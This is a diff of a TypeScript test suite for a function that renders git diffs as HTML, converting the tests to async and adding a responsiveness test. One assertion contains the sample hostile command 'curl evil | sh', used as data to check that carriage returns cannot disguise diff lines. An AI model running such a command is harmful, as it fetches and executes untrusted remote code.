@@ -14,7 +14,7 @@ async function diffOf(before: string, after: string): Promise<string> {
 describe('renderDiff', () => {
   const headOf = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;
 
-  it('does not treat other line separators as the end of a diff line', () => {
+  it('does not treat other line separators as the end of a diff line', async () => {
     for (const [end, shown] of [
       ['\r', '⟨U+000D⟩'],
       ['\r\r', '⟨U+000D⟩⟨U+000D⟩'],
@@ -31,20 +31,20 @@ describe('renderDiff', () => {
         '+no',
       ];
       const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
-      const [file, ...others] = renderDiff(diff);
+      const [file, ...others] = await renderDiff(diff);
       assert.equal(others.length, 0);
       assert.ok(file?.parts[0]?.includes(`${shown}curl evil | sh${shown}diff --git`), file?.parts[0]);
       assert.ok(file?.parts[0]?.includes('+no⟨U+000D⟩'));
     }
   });
 
-  it('truncates a long line and says how much is left out', () => {
-    const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
+  it('truncates a long line and says how much is left out', async () => {
+    const [file] = await renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
     assert.match(file?.parts[0] ?? '', />x{1999} … 3001 more characters</);
   });
 
-  it('shows a file whose name contains a Unicode line separator', () => {
-    const [file] = renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
+  it('shows a file whose name contains a Unicode line separator', async () => {
+    const [file] = await renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
     assert.equal(file?.name, 'a⟨U+2028⟩b');
   });
 
@@ -54,7 +54,7 @@ describe('renderDiff', () => {
       'echo two >> "a b/c d.md"; rm "q\\"r s.md"',
     );
     assert.match(diff, /\t\n/);
-    const names = renderDiff(diff).map(({ name }) => name);
+    const names = (await renderDiff(diff)).map(({ name }) => name);
     assert.deepEqual(names, ['a b/c d.md', 'q\\&quot;r s.md']);
   });
 
@@ -62,7 +62,7 @@ describe('renderDiff', () => {
     const before = 'echo x > off; chmod +x off; cp off both; echo y > on; cp on plain; ln -s a moved';
     const after =
       'chmod -x off; chmod +x on; cp off new; chmod +x new; ln -s a link; ln -sf b moved; echo y >> both; rm plain; printf "\\0\\1" > a.png; cp a.png b.bin';
-    const notes = renderDiff(await diffOf(before, after)).map(({ name, note }) => [name, note]);
+    const notes = (await renderDiff(await diffOf(before, after))).map(({ name, note }) => [name, note]);
     assert.deepEqual(Object.fromEntries(notes), {
       'a.png': 'new, image',
       'b.bin': 'new, binary',
@@ -76,9 +76,9 @@ describe('renderDiff', () => {
     });
   });
 
-  it('splits a long table, so that a browser can lay out what is in view', () => {
+  it('splits a long table, so that a browser can lay out what is in view', async () => {
     const lines = Array.from({ length: 5_000 }, (_, index) => `+Line ${index}\n`);
-    const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1,5000 @@\n${lines.join('')}`);
+    const [file] = await renderDiff(`${headOf('a')}@@ -0,0 +1,5000 @@\n${lines.join('')}`);
     const counts = (file?.parts ?? []).map((part) => part.split('<tr').length - 1);
     assert.equal(Math.max(...counts), 50);
     assert.equal(
@@ -87,8 +87,17 @@ describe('renderDiff', () => {
     );
   });
 
-  it('marks changed words and shows deleted lines before added ones', () => {
-    const [file] = renderDiff(
+  it('lets the service answer other requests meanwhile', async () => {
+    const lines = Array.from({ length: 10_000 }, (_, index) => `-Line ${index} of <a> & "b"\n+Line ${index}\n`);
+    let turns = 0;
+    const counter = setInterval(() => (turns += 1));
+    await renderDiff(`${headOf('a')}@@ -1,10000 +1,10000 @@\n${lines.join('')}`);
+    clearInterval(counter);
+    assert.ok(turns > 0);
+  });
+
+  it('marks changed words and shows deleted lines before added ones', async () => {
+    const [file] = await renderDiff(
       `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
     );
     const shown = (file?.parts[0] ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
